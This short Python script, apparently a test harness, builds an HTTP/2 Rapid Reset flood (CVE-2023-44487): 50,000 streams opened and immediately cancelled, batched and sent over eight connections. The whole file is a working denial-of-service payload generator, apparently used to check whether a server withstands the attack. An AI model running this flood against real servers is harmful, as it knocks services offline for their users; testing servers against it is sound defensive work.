"""Streams that are reset as soon as they are begun, on eight connections (CVE-2023-44487). They are cut only if they
can be that fast: each turn takes few.
"""

import struct

import flood
from http2_connection import ACK, CANCEL, END_HEADERS, HEADERS, RST_STREAM, SETTINGS, frame

STREAMS = 50_000
PAIR_BYTES = len(frame(HEADERS, 0, 1, flood.header_block())) + len(frame(RST_STREAM, 0, 1, b"1234"))


def parts():
    block = flood.header_block()
    reset = struct.pack(">I", CANCEL)
    all_frames = [
        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset) for stream in range(1, 2 * STREAMS, 2)
    ]
    return [frame(SETTINGS, ACK, 0)] + [b"".join(all_frames[i : i + 500]) for i in range(0, STREAMS, 500)]


if __name__ == "__main__":
    flood.main(parts, connections=8, must_be_cut=False)
